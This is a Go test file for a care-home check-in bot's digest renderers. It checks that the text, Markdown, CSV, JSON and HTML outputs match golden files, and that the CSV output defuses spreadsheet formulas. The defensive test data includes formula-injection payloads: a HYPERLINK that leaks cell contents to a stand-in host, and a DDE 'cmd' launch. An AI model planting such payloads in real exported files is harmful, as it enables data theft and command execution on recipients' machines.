package render_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/porchlight/porchlight/bot"
	"github.com/porchlight/porchlight/render"
)

// The digest's golden files are written by the core's test of a seeded
// week (bot/digest_test.go, TestDigestGoldenFormats). Here the JSON one is
// read back into a digest and every rendering must give its golden file:
// the renderers depend on nothing but the digest they are given.
func TestRenderingsFromTheJSONContract(t *testing.T) {
	raw, err := os.ReadFile("../bot/testdata/digest.json")
	if err != nil {
		t.Fatal(err)
	}
	var d bot.Digest
	if err := json.Unmarshal(raw, &d); err != nil {
		t.Fatalf("the JSON contract does not read back into bot.Digest: %v", err)
	}
	csv, err := render.DigestCSV(&d)
	if err != nil {
		t.Fatal(err)
	}
	js, err := render.DigestJSON(&d)
	if err != nil {
		t.Fatal(err)
	}
	for name, got := range map[string]string{
		"digest.txt": render.DigestText(&d) + "\n", "digest.md": render.DigestMarkdown(&d), "digest.csv": string(csv), "digest.json": string(js) + "\n",
	} {
		want, err := os.ReadFile("../bot/testdata/" + name)
		if err != nil {
			t.Fatal(err)
		}
		if got != string(want) {
			t.Errorf("%s rendered from digest.json differs from its golden file:\n%s", name, got)
		}
	}
	html, err := render.DigestHTML(&d, []byte("\x89PNG fake"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"<html", "data:image/png;base64,", "</html>"} {
		if !strings.Contains(string(html), want) {
			t.Errorf("HTML lacks %q", want)
		}
	}
}

// TestCSVDefusesFormulas: a text cell that a spreadsheet would run as a
// formula (OWASP's list: = + - @ tab and carriage return first) is written
// with a leading single quote; other text and every number are unchanged,
// and the file still reads back as CSV with the same cells otherwise.
func TestCSVDefusesFormulas(t *testing.T) {
	mood := -1.5 // not a real mood: a negative number must stay a number
	names := map[string]string{
		`=HYPERLINK("http://example.invalid/?x="&A1,"Click")`: `'=HYPERLINK("http://example.invalid/?x="&A1,"Click")`,
		"+1+cmd|' /C calc'!A0":                                "'+1+cmd|' /C calc'!A0",
		"-2+3":                                                "'-2+3",
		"@SUM(1+1)":                                           "'@SUM(1+1)",
		"\t=1+1":                                              "'\t=1+1",
		"\r=1+1":                                              "'\r=1+1",
		"Robin":                                               "Robin",
		"Ro=bin, the 2nd":                                     "Ro=bin, the 2nd",
		"":                                                    "",
	}
	d := &bot.Digest{House: "=Cedar House", Week: "2026-W47"}
	for name := range names {
		d.Residents = append(d.Residents, bot.DigestResident{ID: 7, Name: name, CheckinsExpected: 7, CheckinsAnswered: 3, MoodAvg: &mood})
	}
	out, err := render.DigestCSV(d)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v\n%s", err, out)
	}
	if len(rows) != len(names)+1 {
		t.Fatalf("rows = %d, want %d", len(rows), len(names)+1)
	}
	for i, row := range rows[1:] {
		name := d.Residents[i].Name
		if got, want := row[3], names[name]; got != want {
			t.Errorf("name %q written as %q, want %q", name, got, want)
		}
		if row[0] != "'=Cedar House" || row[1] != "2026-W47" {
			t.Errorf("house, week = %q, %q; want the house defused and the week as is", row[0], row[1])
		}
		if row[2] != "7" || row[4] != "7" || row[5] != "3" || row[9] != "-1.50" {
			t.Errorf("numbers = %q; want them unchanged, the negative one included", row)
		}
	}
}
